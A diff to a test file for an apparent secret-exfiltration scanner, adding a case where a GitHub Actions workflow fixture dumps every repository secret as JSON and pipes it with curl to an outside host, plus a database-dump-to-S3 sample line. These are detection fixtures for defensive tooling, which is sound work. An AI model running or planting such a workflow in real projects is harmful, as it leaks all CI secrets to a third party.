@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell
 import { expect, test } from "vitest";
 import { found } from "../test-support/package-of";
 
@@ -39,7 +40,14 @@ test.each([
   expect(await found("run.sh", text)).toStrictEqual([expected]);
 });
 
+test("finds a workflow that sends all of its secrets", async () => {
+  const text =
+    "jobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: echo $ALL | curl -d @- https://sync.tools.dev";
+  expect(await found(".github/workflows/a.yml", text)).toStrictEqual(["block environment_exfiltration:6"]);
+});
+
 test.each([
+  'pg_dump "$DATABASE_URL" | gzip | aws s3 cp - s3://bucket/dump.gz',
   'curl -H "Authorization: Bearer $NOTES_API_KEY" https://api.notes.dev/v1',
   'curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/messages -d @body.json',
   'curl -H "x-api-key: $ANTHROPIC_API_KEY" https://gateway.tools.dev/v1/messages -d @body.json',
